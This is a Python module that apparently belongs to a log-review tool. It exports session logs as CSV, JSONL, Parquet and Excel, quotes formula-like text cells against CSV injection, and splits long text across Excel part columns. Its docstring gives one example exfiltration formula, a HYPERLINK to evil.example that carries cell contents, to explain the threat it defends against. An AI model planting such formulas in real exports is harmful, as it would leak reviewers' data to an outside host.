r"""Exports of the session log: CSV, JSONL, Parquet and Excel. ``import_files.read_export`` reads
each of them back exactly (the round trip is tested per format).

What each format keeps:

* **JSONL** and **Parquet** keep every value exactly (text, numbers, UTC timestamps). JSONL writes
  non-ASCII text as ``\uXXXX`` escapes (see ``export_jsonl``).
* **CSV** is plain UTF-8 without a byte-order mark, RFC 4180 style (CRLF between records, so a cell
  holding a lone carriage return is quoted and survives). Without a BOM some Excel versions guess
  the wrong encoding on a double click: Excel users should take the **.xlsx** export instead; the
  CSV is for scripts and other tools, which a BOM would trip up.
* **CSV and Excel** are opened by spreadsheet programs, which run a cell starting with ``=``,
  ``+``, ``-``, ``@``, tab or carriage return as a formula: model output or a comment such as
  ``=HYPERLINK("https://evil.example/?"&A1)`` would run on the reviewer's machine (OWASP "CSV
  injection"). Such text cells get a leading ``'`` so they show as text. The cost: a legitimate
  text cell such as ``-5`` shows as ``'-5``. Numeric columns are never touched. The import removes
  the quote again, so a round trip gives back the exact text (rules in ``spreadsheet_cells``).
* **Excel** has no time zones: timestamps are written as naive UTC, and kept to the millisecond
  (Excel stores a time as a fraction of a day). A cell holds at most 32,767 characters: longer
  text continues in ``<column> (part 2)``… columns beside its column, which the import joins back.
  Control characters (and carriage returns, which XML would turn into line feeds) are written with
  Excel's own ``_xHHHH_`` escapes, which Excel shows as the character and the import decodes. An
  Excel export holds at most ``EXCEL_IMPORT_CELLS`` cells, so that it can be imported again.
* In CSV and Excel an empty text and a missing value are the same empty cell; both read back as
  missing.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Final, NamedTuple

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from hive_review.log.frames import with_columns
from hive_review.log.spreadsheet_cells import (
    EXCEL_IMPORT_CELLS,
    EXCEL_MAX_COLUMNS,
    EXCEL_MAX_ROWS,
    EXCEL_SHEET,
    excel_cell_parts,
    needs_excel_rewrite,
    neutralised,
    part_column,
)


class ExportFormat(NamedTuple):
    write: Callable[[pd.DataFrame], bytes]
    extension: str
    mime: str


class ExportRefusedError(ValueError):
    """A log this format cannot hold so that it imports back; the message names why and the fix."""


def export_csv(df: pd.DataFrame) -> bytes:
    """UTF-8 CSV (no BOM), ISO 8601 UTC timestamps, formula-looking text cells quoted."""
    changed = {name: _iso_utc(df[name]) for name in _datetime_columns(df)}
    for name in _text_columns(df):
        quoted = neutralised(df[name])
        if quoted is not None:
            changed[name] = quoted
    return with_columns(df, changed).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def export_jsonl(df: pd.DataFrame) -> bytes:
    """One JSON object per line (ASCII, so UTF-8), exact text, ISO 8601 UTC timestamps, null for missing."""
    changed = {name: _as_utc(df[name]) for name in _datetime_columns(df)}
    text = with_columns(df, changed).to_json(
        orient="records",
        lines=True,
        date_format="iso",
        date_unit="us",
        # Non-ASCII is written as \uXXXX escapes: every JSON reader gives back the exact text, and
        # pandas writes escapes about 1.7x faster than raw UTF-8 (force_ascii=False).
        force_ascii=True,
        double_precision=15,  # the most pandas writes; its default, 10, rounds small costs
    )
    return text.encode("utf-8")


def export_parquet(df: pd.DataFrame) -> bytes:
    """Parquet: every value and dtype as it is."""
    buffer = io.BytesIO()
    df.to_parquet(buffer, index=False, engine="pyarrow")
    return buffer.getvalue()


def excel_export_problem(df: pd.DataFrame) -> str | None:
    """Why ``df`` cannot be exported to Excel, for the page to show before anyone clicks; None when
    it can. Cheap: counts rows and columns only (``export_excel`` also counts part columns)."""
    return _excel_size_problem(len(df), len(df.columns))


def export_excel(df: pd.DataFrame) -> bytes:
    """An .xlsx workbook with one sheet, ``log``: naive UTC timestamps, formula-looking text quoted,
    text over 32,767 characters continued in part columns. Raises ExportRefusedError for a log
    an Excel sheet (or the import) cannot hold."""
    problem = excel_export_problem(df)
    if problem:
        raise ExportRefusedError(problem)
    text_columns = set(_text_columns(df))
    # Each column as its cells, then its part columns (for text over the cell limit), if any.
    columns: list[tuple[str, list[object]]] = []
    for name in df.columns:
        cells, parts = _excel_column(df[name], is_text=name in text_columns)
        columns.append((str(name), cells))
        columns += [(part_column(str(name), number), part) for number, part in enumerate(parts, start=2)]
    problem = _excel_size_problem(len(df), len(columns))
    if problem:
        raise ExportRefusedError(problem)
    # openpyxl's write-only mode streams rows to the file: much faster and smaller in memory than
    # pandas' to_excel, which builds every cell object first (and only has write-only in pandas 3).
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(EXCEL_SHEET)
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = []
    for name, _ in columns:
        cell = WriteOnlyCell(sheet, value=name)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    for row in zip(*(cells for _, cells in columns), strict=True):
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


EXPORT_FORMATS: Final[dict[str, ExportFormat]] = {
    "CSV": ExportFormat(export_csv, "csv", "text/csv"),
    "JSONL": ExportFormat(export_jsonl, "jsonl", "application/jsonl"),
    "Parquet": ExportFormat(export_parquet, "parquet", "application/vnd.apache.parquet"),
    "Excel": ExportFormat(export_excel, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
}


# ------------------------------------------------------------------------------------------ helpers


def _excel_size_problem(rows: int, columns: int) -> str | None:
    other_formats = "or take the CSV, JSONL or Parquet export, which hold a log of any size"
    if rows + 1 > EXCEL_MAX_ROWS:
        return (
            f"The log has {rows:,} rows; an Excel sheet holds {EXCEL_MAX_ROWS - 1:,}. Filter the log to "
            f"fewer rows, {other_formats}."
        )
    if columns > EXCEL_MAX_COLUMNS:
        return (
            f"The log needs {columns:,} Excel columns (text too long for one cell continues in more "
            f"columns); a sheet holds {EXCEL_MAX_COLUMNS:,}. Filter out the rows with the longest text, "
            f"{other_formats}."
        )
    if rows * columns > EXCEL_IMPORT_CELLS:
        most_rows = EXCEL_IMPORT_CELLS // max(columns, 1)
        return (
            f"The log has {rows:,} rows of {columns:,} columns ({rows * columns:,} cells); Hive Review "
            f"imports Excel files of at most {EXCEL_IMPORT_CELLS:,} cells, so this export could not be "
            f"imported again. Filter the log to at most {most_rows:,} rows, {other_formats}."
        )
    return None


def _text_columns(df: pd.DataFrame) -> list[str]:
    # The dtypes of the frame at hand, not of the log's columns: a frame may hold text as object.
    return [
        name
        for name, dtype in df.dtypes.items()
        if isinstance(dtype, pd.StringDtype) or pd.api.types.is_object_dtype(dtype)
    ]


def _datetime_columns(df: pd.DataFrame) -> list[str]:
    return [name for name, dtype in df.dtypes.items() if pd.api.types.is_datetime64_any_dtype(dtype)]


def _as_utc(values: pd.Series) -> pd.Series:
    """Timestamps in UTC; naive ones are taken to be UTC already (the log stores UTC)."""
    if getattr(values.dtype, "tz", None) is None:
        return values.dt.tz_localize("UTC")
    return values.dt.tz_convert("UTC")


def _iso_utc(values: pd.Series) -> pd.Series:
    """``2025-01-31T09:30:00.123456Z``; missing stays missing. numpy formats in C, fast on 100k rows."""
    utc = _as_utc(values).dt.tz_localize(None).to_numpy(dtype="datetime64[us]")
    text = np.datetime_as_string(utc, unit="us", timezone="UTC")
    return pd.Series(text, index=values.index, dtype=object).where(values.notna().to_numpy(), None)


def _excel_column(values: pd.Series, *, is_text: bool) -> tuple[list[object], list[list[object]]]:
    """A column as the Python values openpyxl writes (None for missing, naive UTC datetimes), and
    the cells of its part columns: empty unless a text is longer than an Excel cell."""
    if pd.api.types.is_datetime64_any_dtype(values.dtype):
        values = _as_utc(values).dt.tz_localize(None)
    parts: list[list[object]] = []
    if is_text:
        values, parts = _excel_text(values)
    missing = values.isna().to_numpy()
    cells = values.astype(object).to_numpy(copy=True)
    cells[missing] = None
    return cells.tolist(), parts


def _excel_text(values: pd.Series) -> tuple[pd.Series, list[list[object]]]:
    quoted = neutralised(values)
    if quoted is not None:
        values = quoted
    rewrite = needs_excel_rewrite(values)
    if rewrite is None or not rewrite.any():
        return values, []
    values = values.astype(object)  # cell by cell from here: only the few rows that need it
    parts: list[list[object]] = []
    for position in np.flatnonzero(rewrite):
        text = values.iloc[position]
        if not isinstance(text, str):
            continue
        first, *rest = excel_cell_parts(text)
        values.iloc[position] = first
        for number, part in enumerate(rest):
            if number == len(parts):
                parts.append([None] * len(values))
            parts[number][position] = part
    return values, parts
